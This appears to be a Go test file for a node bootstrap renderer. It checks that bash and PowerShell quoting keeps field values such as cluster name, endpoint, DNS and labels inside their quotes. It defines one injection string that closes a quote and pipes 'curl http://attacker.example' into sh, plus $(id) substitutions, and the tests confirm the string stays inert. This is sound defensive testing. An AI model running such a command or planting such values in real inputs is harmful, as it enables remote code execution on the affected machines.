package bootstrap

import (
	"os/exec"
	"strings"
	"testing"

	awsv1 "karpenter.sh/karpenter/api/aws/v1"
)

const hostile = "10.0.0.10'; curl http://attacker.example | sh; '$(id)`id`\"\\"

func TestBashWordIsOneWord(t *testing.T) {
	out, err := exec.Command("bash", "-c", "printf %s "+bashWord(hostile)).Output()
	if err != nil {
		t.Fatal(err)
	}
	if string(out) != hostile {
		t.Errorf("bash reads %q, want %q", out, hostile)
	}
}

func TestPowerShellWordDoublesEveryQuote(t *testing.T) {
	if got, want := powerShellWord("a'b\u2019c"), "'a''b\u2019\u2019c'"; got != want {
		t.Errorf("word = %s, want %s", got, want)
	}
}

// TestNoValueEndsItsQuotes renders scripts with a hostile value in each field that reaches a shell.
func TestNoValueEndsItsQuotes(t *testing.T) {
	for name, edit := range map[string]func(o *Options){
		"the cluster's name":     func(o *Options) { o.Cluster.Name = hostile },
		"the cluster's endpoint": func(o *Options) { o.Cluster.Endpoint = hostile },
		"the cluster's CA":       func(o *Options) { o.Cluster.CABundle = hostile },
		"the DNS address":        func(o *Options) { o.Kubelet.ClusterDNS = []string{hostile} },
		"an eviction threshold":  func(o *Options) { o.Kubelet.EvictionHard = map[string]string{"memory.available": hostile} },
		"a reserve":              func(o *Options) { o.Kubelet.KubeReserved = map[string]string{"cpu": hostile} },
		"a label":                func(o *Options) { o.Labels = map[string]string{"team": hostile} },
	} {
		for _, family := range []string{awsv1.AMIFamilyAL2, awsv1.AMIFamilyWindows2022} {
			t.Run(name+" of "+family, func(t *testing.T) {
				o := plain()
				edit(&o)
				script, err := Render(family, o)
				if err != nil {
					t.Fatal(err)
				}
				if at := strings.Index(script, "; curl"); at < 1 || strings.HasSuffix(script[:at], "10.0.0.10'") {
					t.Errorf("the value ends its quotes:\n%s", script)
				}
			})
		}
	}
}
